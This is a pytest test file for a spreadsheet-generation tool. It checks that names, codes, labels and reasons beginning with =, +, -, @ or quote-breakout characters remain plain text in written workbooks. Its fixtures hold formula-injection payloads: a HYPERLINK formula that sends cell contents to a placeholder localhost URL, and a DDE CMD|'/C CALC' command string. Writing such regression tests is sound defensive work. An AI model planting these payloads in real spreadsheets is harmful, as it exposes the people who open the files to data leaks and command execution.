"""Text that looks like a formula is text in every sheet that is written.

Names, codes, labels, reasons, sheets' own words from a scheme file: whatever begins with = + - @,
a tab or a carriage return, or tries to break out of a quoted text, comes out as it went in.
"""

from __future__ import annotations

import datetime as dt
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from lxml import etree
from openpyxl.formula import Tokenizer
from openpyxl.utils.escape import unescape

from permu_xl.engine.model.scheme import Scheme
from permu_xl.schemes import load_file
from permu_xl.workbook import layout
from permu_xl.workbook.district import run
from permu_xl.workbook.live.template import live_template
from permu_xl.workbook.reading.opened import read_book
from permu_xl.workbook.template.workbook import build_template, save_workbook
from tests.office import Office
from tests.workbook.districts import YEAR, spread_firms

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", '"&', "'=", "＝", "{=", "=-+@")
CALL = 'HYPERLINK("http://127.0.0.1:9/"&A1,"x")'
NAMES = [f"{beginning}{CALL}甲{k}" for k, beginning in enumerate(BEGINNINGS)]
LABEL, TITLE, MEASURE = '=HYPERLINK("http://127.0.0.1:9/")项', f'a"&{CALL}&"', f"@{CALL}措施"
REASON, DOCUMENT, INDUSTRY = f"-{CALL}因", f"+{CALL}文", f"={CALL}业"
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"

SCHEME = f"""
extends = "shenyang_2021"
id = "own"
title = '{TITLE}'
document = '{DOCUMENT}'

[columns.land]
name = '={CALL}地'

[indicators.tax_per_mu]
name = '={CALL}税'

[classes.A]
name = '={CALL}类'

[measures.land.texts]
A = '{MEASURE}'

[bonus.labels.'{LABEL}']
points = 2
clause = '{REASON}'
"""


def put(sheet: Any, row: int, column: int, value: Any) -> None:
    cell = sheet.cell(row, column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"


def fill(book: Any, title: str, fields: Any, rows: list[Mapping[str, Any]]) -> None:
    columns = {field.key: k for k, field in enumerate(fields, start=1)}
    for r, cells in enumerate(rows, start=layout.FIRST_ROW):
        for key, value in cells.items():
            put(book[title], r, columns[key], value)


@pytest.fixture(scope="module")
def scheme(tmp_path_factory: pytest.TempPathFactory) -> Scheme:
    path = tmp_path_factory.mktemp("scheme") / "own.toml"
    path.write_text(SCHEME, encoding="utf-8")
    return load_file(path)


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory, scheme: Scheme) -> Path:
    """A district in which everything that can be typed looks like a formula, evaluated."""
    folder = tmp_path_factory.mktemp("district")
    (folder / "own.toml").write_text(SCHEME, encoding="utf-8")
    book = build_template(scheme, rows=20, district=NAMES[0], year=YEAR, scheme_name="own.toml")
    firms = spread_firms(len(NAMES))
    for number, (each, name) in enumerate(zip(firms, NAMES, strict=True)):
        each |= {"name": name, "code": f"{BEGINNINGS[number]}CMD|'/C CALC'!A{number}"}
        each |= {"remark": name, "bonus_labels": LABEL, "industry": INDUSTRY if number else "3421"}
    fill(book, layout.DATA, layout.data_fields(scheme), firms)
    fill(book, layout.PREVIOUS, layout.data_fields(scheme), firms)
    decision = {
        "name": NAMES[1], "letter": "C", "reason": REASON, "document": DOCUMENT,
        "date": dt.date(2023, 5, 1),
    }  # fmt: skip
    fill(book, layout.ADJUSTMENTS, layout.adjustment_fields(scheme), [decision])
    path, target = folder / "in.xlsx", folder / "out.xlsx"
    save_workbook(book, path)
    outcome = run(path, target)
    assert outcome.evaluation is not None, outcome.findings
    return target


def cells(path: Path) -> Iterator[tuple[str, str, str, str | None, str]]:
    """Yield sheet, address, type, formula and text of every cell of a workbook."""
    with zipfile.ZipFile(path) as package:
        for part in package.namelist():
            if part.startswith("xl/worksheets/sheet"):
                for cell in etree.fromstring(package.read(part)).iter(f"{MAIN}c"):
                    formula = cell.find(f"{MAIN}f")
                    text = "".join(each.text or "" for each in cell.iter(f"{MAIN}v", f"{MAIN}t"))
                    written = None if formula is None else formula.text or ""
                    yield part, cell.get("r", ""), cell.get("t", "n"), written, text


def calls(formula: str) -> list[str]:
    """Return the functions that a formula calls."""
    tokens = Tokenizer(f"={formula}").items
    assert not [t for t in tokens if "CMD" in t.value.upper() and t.subtype != "TEXT"], formula
    return [t.value.upper() for t in tokens if t.type == "FUNC" and t.subtype == "OPEN"]


def assert_no_formula_of_theirs(path: Path) -> None:
    for part, address, kind, formula, text in cells(path):
        if formula is not None:
            assert "HYPERLINK(" not in calls(formula), (part, address, formula)
        elif "HYPERLINK" in text or "CALC" in text:
            assert kind in ("s", "inlineStr", "str"), (part, address, text)
    with zipfile.ZipFile(path) as package:
        for part in package.namelist():
            if not part.endswith(".xml"):
                continue
            root = etree.fromstring(package.read(part))
            for each in root.iter("{*}formula", "{*}formula1", "{*}formula2", "{*}definedName"):
                assert "HYPERLINK(" not in calls(each.text or ""), (part, each.text)


def test_no_cell_became_a_formula(written: Path) -> None:
    assert_no_formula_of_theirs(written)


def test_the_input_alone_as_well(written: Path) -> None:
    assert_no_formula_of_theirs(written.with_name("in.xlsx"))


def test_templates_as_well(tmp_path: Path, scheme: Scheme) -> None:
    save_workbook(build_template(scheme, rows=3, district=NAMES[0], year=YEAR), tmp_path / "a.xlsx")
    save_workbook(live_template(scheme, 3, district=NAMES[0], year=YEAR), tmp_path / "b.xlsx")
    assert_no_formula_of_theirs(tmp_path / "a.xlsx")
    assert_no_formula_of_theirs(tmp_path / "b.xlsx")


def texts(path: Path, sheet: str) -> set[str]:
    book = openpyxl.load_workbook(path)
    found = [cell for row in book[sheet].iter_rows() for cell in row if cell.data_type in "sn"]
    return {unescape(cell.value) for cell in found if isinstance(cell.value, str)}


def test_every_text_is_there_as_it_was(written: Path) -> None:
    # Runs of blanks in a name are one, as everywhere.
    names = {" ".join(name.split()) for name in NAMES}
    for sheet in (layout.SCORES, layout.CLASSES):
        assert names <= texts(written, sheet), sheet
    assert names <= texts(written, layout.FINDINGS)
    assert any(CALL in text for text in texts(written, layout.BASELINES))
    assert any(MEASURE in text for text in texts(written, layout.MEASURES))
    assert any(REASON in text for text in texts(written, layout.CLASSES))


@pytest.mark.office
def test_the_same_through_libreoffice(written: Path, office: Office, tmp_path: Path) -> None:
    kept = tmp_path / "kept.xlsx"
    with office.open(written) as book:
        for sheet in (layout.DATA, layout.SCORES, layout.CLASSES):
            for row in range(layout.FIRST_ROW, layout.FIRST_ROW + len(NAMES)):
                for column in "BC":
                    assert book.formula(sheet, f"{column}{row}") is None
        book.save(kept)
    assert_no_formula_of_theirs(kept)
    (tmp_path / "own.toml").write_text(SCHEME, encoding="utf-8")
    before, after = read_book(written), read_book(kept)
    assert list(after.current.roster.names) == list(before.current.roster.names)
    assert list(after.current.roster.codes) == list(before.current.roster.codes)
    again = tmp_path / "again.xlsx"
    assert run(kept, again).evaluation is not None
    assert_no_formula_of_theirs(again)
